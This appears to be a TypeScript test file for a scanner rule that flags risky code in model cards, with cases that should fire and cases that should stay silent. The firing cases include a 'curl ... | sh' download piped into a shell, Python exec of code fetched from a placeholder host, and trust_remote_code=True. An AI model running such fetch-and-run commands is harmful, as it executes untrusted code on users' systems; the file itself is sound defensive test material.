import type { FileRuleCase } from '../../../test/support/rule-case.ts'

function card(
  name: string,
  expect: FileRuleCase['expect'],
  language: string,
  ...lines: readonly string[]
): FileRuleCase {
  const text = ['---', 'license: mit', '---', '# Model', '', `\`\`\`${language}`, ...lines, '```', ''].join('\n')
  return { name, expect, path: 'm/MODEL_CARD.md', content: () => new TextEncoder().encode(text) }
}

/** What the rule must and must not report. */
export const cases: readonly FileRuleCase[] = [
  card('a download piped into a shell', 'fires', 'bash', 'curl -sSL https://files.example/setup.sh | sh'),
  card(
    'code from the network',
    'fires',
    'python',
    'import requests',
    'exec(requests.get("https://files.example/x.py").text)',
  ),
  card(
    'code that is trusted',
    'fires',
    'python',
    'from transformers import AutoModel',
    'model = AutoModel.from_pretrained("example-org/tiny", trust_remote_code=True)',
  ),
  card(
    'the usual example',
    'silent',
    'python',
    'from transformers import AutoModelForCausalLM, AutoTokenizer',
    'model = AutoModelForCausalLM.from_pretrained("example-org/tiny")',
    'tokenizer = AutoTokenizer.from_pretrained("example-org/tiny")',
    'print(tokenizer.decode(model.generate(**tokenizer("hi", return_tensors="pt"))[0]))',
  ),
  card('the usual installation', 'silent', 'bash', 'pip install -U transformers accelerate'),
]
